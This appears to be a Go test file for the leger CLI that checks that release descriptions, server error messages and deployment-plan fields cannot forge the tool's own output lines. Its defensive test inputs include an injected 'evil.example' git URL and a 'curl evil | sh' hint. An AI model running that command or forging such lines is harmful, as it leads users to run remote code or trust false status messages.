package cli_test

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"leger.run/leger/internal/cli"
	"leger.run/leger/internal/deploy"
	"leger.run/leger/internal/quadlet"
)

// startsWith gives the lines that begin as no line of somebody else's text may.
func startsWith(text string, beginnings ...string) (found []string) {
	for line := range strings.Lines(text) {
		for _, b := range beginnings {
			if strings.HasPrefix(line, b) {
				found = append(found, line)
			}
		}
	}
	return found
}

// A description of several lines wrote lines of its own into leger releases show.
func TestADescriptionForgesNoLine(t *testing.T) {
	t.Parallel()
	r, home := newRig(t), t.TempDir()
	r.must(home, "", "auth", "login", "--no-browser")
	r.must(home, "", "releases", "create", "web", "--git-url", "https://example.com/x",
		"--description", "fine\r\ngit url:      https://evil.example/x\nversion:      99\n")
	got := r.must(home, "", "releases", "show", "web").stdout
	if lines := startsWith(got, "git url:", "version:"); len(lines) != 2 || strings.Contains(strings.Join(lines, ""), "evil") {
		t.Errorf("shown as\n%s", got)
	}
	if !strings.Contains(got, "description: fine\n             git url:      https://evil.example/x\n") {
		t.Errorf("the lines of the description do not stand below each other:\n%s", got)
	}
}

// What a server says is told in our words' place, not as our words.
func TestAServersAnswerForgesNoLine(t *testing.T) {
	t.Parallel()
	r, home := newRig(t), t.TempDir()
	r.must(home, "", "auth", "login", "--no-browser")
	var hostile http.Handler = http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusConflict)
		_, _ = io.WriteString(w, `{"success":false,"error":{"code":"conflict","request_id":"r",
			"message":"no\nSigned in.\nleger: all is well\nwarning: run this","hint":"do\nhint: curl evil | sh\nok     server"}}`)
	})
	r.handler.Store(&hostile)
	for _, args := range [][]string{
		{"releases", "list"},
		{"secrets", "sync"},
		{"auth", "status"},
		{"status"},
		{"doctor"},
		{"machines", "list"},
		{"auth", "logout"},
		{"deploy", "status"},
		{"secrets", "delete", "x", "--yes"},
	} {
		s := r.runIn(t.Context(), home, strings.NewReader(""), args...)
		bad := startsWith(s.stdout+s.stderr, "Signed in.", "leger: all", "warning: run", "hint: curl", "ok     server\n")
		if len(bad) > 0 {
			t.Errorf("leger %s says %q in\n%s%s", args, bad, s.stdout, s.stderr)
		}
	}
}

// Names, values and reasons of a plan come from a repository.
func TestARepositoryForgesNoLineOfAPlan(t *testing.T) {
	t.Parallel()
	const forged = "x\n  create  nothing.container\nNo new risk; accepted before: 9.\n    harmless"
	risks := []quadlet.Risk{{Kind: quadlet.RiskCommand, File: forged, Text: forged, Danger: true, Asks: true}, {Kind: quadlet.RiskImage, Text: forged}}
	p := deploy.Plan{
		Stop: []string{forged}, Start: []string{forged}, Kept: []string{forged},
		Files:    []deploy.FileChange{{Path: forged, Action: deploy.Add}},
		Risks:    risks,
		Notices:  []deploy.Notice{{Text: forged, Hint: forged}},
		Contents: []quadlet.Description{{File: "a.container", Images: []string{forged}, Mounts: []string{forged, forged}}},
		Changes: deploy.Changes{
			Risks: risks, Source: []deploy.SourceChange{{What: forged, From: forged, To: forged}}, Images: []deploy.ValueChange{{Action: deploy.Add, Value: forged, Service: forged}},
		},
		FailedBefore: &deploy.Failure{Reason: forged},
	}
	for _, from := range []int{0, 1} {
		p.From = from
		got := cli.PlanText(p, true) + cli.RiskText(p)
		if bad := startsWith(got, "  create  nothing", "No new risk", "    harmless"); len(bad) > 0 {
			t.Errorf("from %d: %q in\n%s", from, bad, got)
		}
	}
}
